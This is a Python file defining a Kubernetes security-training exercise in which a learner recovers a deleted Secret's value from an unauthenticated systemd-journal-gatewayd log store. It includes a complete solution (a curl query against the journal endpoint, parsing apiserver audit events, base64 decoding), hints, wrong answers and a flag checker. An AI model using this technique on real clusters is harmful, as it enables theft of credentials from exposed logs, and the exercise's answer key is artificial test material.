"""Find in the collected logs what was in a secret that the cluster no longer has."""

from __future__ import annotations

import base64
import json
import time

from labkit.errors import LabError
from labkit.workshop.definition import Exercise, Hint, Outcome, WrongSolution
from labkit.workshop.edited import EditedLab
from labkit.workshop.flags import check_flag

__all__ = ["EXERCISE"]

NAME = "logs-1"
SECRET, NAMESPACE = "retired-key", "shop"
FOLDER = "/var/log/journal/remote"
#: Seconds from a request to its event in the store, on a busy machine.
ARRIVES_S = 60.0
STORE = "http://monitor:19531/entries?_SYSTEMD_UNIT=kube-apiserver.service"
#: Solutions begin with this: the events about the secret, as the store has them.
START = f"""
import base64
import json

store = "{STORE}"
form = "Accept: application/vnd.fdo.journal"
last = "Range: entries=:-20000:20000"
curl = f"curl --silent --header '{{form}}' --header '{{last}}' '{{store}}' | grep {SECRET}"
lines = insecure.exec("attacker", ["sh", "-c", curl]).text.splitlines()
events = [json.loads(line.removeprefix("MESSAGE=")) for line in lines]
answers = [event.get("responseObject", {{}}).get("data", {{}}) for event in events]
answer = next(data["key"] for data in answers if "key" in data)
"""


def plant(lab: EditedLab, flag: str) -> None:
    """Create a secret and delete it, and wait until the store has it: nothing else has."""
    secret = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": SECRET, "namespace": NAMESPACE},
        "stringData": {"key": flag},
    }
    delete = ("delete", "secret", SECRET, "--namespace", NAMESPACE, "--ignore-not-found")
    # one is left if the last time was interrupted
    lab.kubectl(*delete)
    lab.kubectl("create", "--filename", "-", stdin=json.dumps(secret).encode())
    lab.kubectl(*delete)
    value = base64.b64encode(flag.encode()).decode()
    # the flag is looked for here: a process list shows arguments
    look = ["journalctl", f"--directory={FOLDER}", "--since=-10min", "--output=cat", "--quiet"]
    deadline = time.monotonic() + ARRIVES_S
    # journalctl ends with 1 while nothing is found
    while value not in lab.exec("monitor", [*look, f"--grep={SECRET}"], check=False).text:
        if time.monotonic() > deadline:
            raise LabError(
                f"the collector of lab {lab.name} ({lab.mode}) did not get the event of {SECRET}",
                hint=f"labkit reset --name {lab.name} --mode {lab.mode}",
            )
        time.sleep(0.5)


def check(lab: EditedLab, answer: object) -> Outcome:
    """Compare the answer with the flag."""
    return check_flag(lab, NAME, answer)


EXERCISE = Exercise(
    name=NAME,
    title="The secret is gone, the log is not",
    notebook="15-logs-and-monitoring",
    kind="attack",
    mode="logs-insecure",
    task=f"""
The administrator created the secret `{SECRET}` in the namespace `{NAMESPACE}`, saw that it was
the wrong place for it, and deleted it at once. The cluster does not have it any more. Get its
value under `key` from the machine `attacker`, without a credential. The value is the flag: set
`answer` to it.

`insecure.exec("attacker", ["sh", "-c", "..."])` runs commands there; `curl` and `grep` are
installed. The log store is systemd-journal-gatewayd on `monitor`, port 19531. Its manual page says
how to ask for entries: `/entries?FIELD=VALUE`, and the headers `Accept` and `Range`.
""",
    hints=(
        Hint("Kubernetes writes the values of a Secret in base64.", "encoded"),
        Hint("That is another value. Which object is the event about?", "wrong-answer"),
        Hint("Ask for the entries of the unit kube-apiserver.service, as in the first attack."),
        Hint(
            "With 'Accept: application/vnd.fdo.journal' a line MESSAGE={...} is an audit event, "
            "whole. Without a Range the store sends everything, from the oldest entry."
        ),
        Hint("The event of the creation has the answer of the apiserver in responseObject."),
    ),
    check=check,
    solution=f"""{START}answer = base64.b64decode(answer).decode()
""",
    wrong=(
        WrongSolution("the value as the event has it", START, "encoded", "in base64: decode it"),
        WrongSolution(
            "the administrator asks the cluster",
            f"""
get = ["get", "secret", "{SECRET}", "--namespace", "{NAMESPACE}", "--output", "name"]
answer = insecure.kubectl(*get, check=False).text
""",
            "no-answer",
            "there is no answer",
        ),
        WrongSolution(
            "another secret, which the cluster has",
            """
get = ["get", "secret", "db-credentials", "--namespace", "shop", "--output", "name"]
answer = insecure.kubectl(*get).text
""",
            "wrong-answer",
            "not the flag of logs-1",
        ),
    ),
    techniques=("read-secrets-in-logs",),
    plant=plant,
)
